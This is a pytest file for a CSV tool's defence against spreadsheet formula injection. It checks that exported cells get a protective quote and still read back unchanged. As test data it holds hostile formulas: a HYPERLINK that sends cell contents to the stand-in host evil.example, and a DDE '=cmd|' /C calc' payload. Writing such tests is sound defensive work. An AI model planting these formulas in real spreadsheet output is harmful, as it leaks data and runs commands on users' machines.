"""CSV output never carries a live formula: text a spreadsheet would run gets a quote in front,
numbers stay numbers, and nolkumuh reads its own CSV back to the same values."""

from __future__ import annotations

import csv

import pytest

from nolkumuh.exchange.formula import guard_cell, unguard_cell
from nolkumuh.exchange.read import read_csv
from tests.exchange.conftest import sample_rows, write_csv
from tests.test_cli import run

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"klik")': '\'=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+1": "'+1+1",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "-2+3": "'-2+3",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "'=1": "''=1",  # a quote the user typed survives the round trip
}
KEPT = ["-3.5", "-12", "+4", "-1,5", "1e-3", "Kawasan Tambak Lorok", "'biasa", "", "'", "2-3"]


@pytest.mark.parametrize(("text", "written"), HOSTILE.items())
def test_formula_like_text_is_written_as_text_and_read_back(text, written):
    assert guard_cell(text) == written
    assert unguard_cell(written) == text


@pytest.mark.parametrize("text", KEPT)
def test_numbers_and_plain_text_are_written_as_they_are(text):
    assert guard_cell(text) == text
    assert unguard_cell(text) == text


# Through the command: the CSV reader reads a carriage return inside a cell as a line break, and a
# quote typed before a formula in an input CSV is read as the protective quote ("'=1" is "=1").
THROUGH_CLI = [text for text in HOSTILE if text[0] not in "\r'"]


def test_score_output_csv_neutralises_formulas_and_reads_back_the_same(tmp_path):
    rows = sample_rows()[: len(THROUGH_CLI) + 1]
    for row, text in zip(rows, THROUGH_CLI, strict=False):
        row["kawasan"] = text
        row["catatan"] = text
    rows[-1]["catatan"] = "-3.5"  # a real negative number in a passed-through column
    source = write_csv(tmp_path / "in.csv", rows)
    run("score", source, "-o", tmp_path / "out.csv", check_code=0)
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as handle:
        out = list(csv.DictReader(handle))
    assert [r["kawasan"] for r in out[: len(THROUGH_CLI)]] == [HOSTILE[t] for t in THROUGH_CLI]
    assert out[-1]["catatan"] == "-3.5"
    for row in out:
        for name, value in row.items():
            assert value[:1] not in "=+@\t\r" or value == "", (name, value)
            assert not value.startswith("-") or name == "catatan", (name, value)
    # read back by nolkumuh: the values the user wrote, and scoring the output again changes nothing
    again = read_csv(tmp_path / "out.csv")
    kawasan = again.names.index("kawasan")
    assert [r[kawasan] for r in again.rows[: len(THROUGH_CLI)]] == THROUGH_CLI
    run("score", tmp_path / "out.csv", "-o", tmp_path / "again.csv", check_code=0)
    assert (tmp_path / "again.csv").read_text("utf-8") == (tmp_path / "out.csv").read_text("utf-8")


def test_decimal_comma_output_keeps_negative_numbers_numeric(tmp_path):
    rows = [
        {k: str(v).replace(".", ",") if isinstance(v, float) else v for k, v in row.items()}
        for row in sample_rows()[:2]
    ]
    rows[0]["catatan"] = "-1,5"
    rows[1]["catatan"] = "-2+3"
    source = write_csv(tmp_path / "in.csv", rows, delimiter=";")
    run("score", source, "--decimal-comma", "-o", tmp_path / "out.csv", check_code=0)
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as handle:
        out = list(csv.DictReader(handle, delimiter=";"))
    assert [r["catatan"] for r in out] == ["-1,5", "'-2+3"]


def test_a_formula_as_column_name_is_neutralised_too(tmp_path):
    rows = [{**row, "=cmd|' /C calc'!A0": "x"} for row in sample_rows()[:1]]
    run("score", write_csv(tmp_path / "in.csv", rows), "-o", tmp_path / "out.csv", check_code=0)
    header = (tmp_path / "out.csv").read_text("utf-8").splitlines()[0]
    assert "\"'=cmd|' /C calc'!A0\"" in header or "'=cmd|' /C calc'!A0" in header
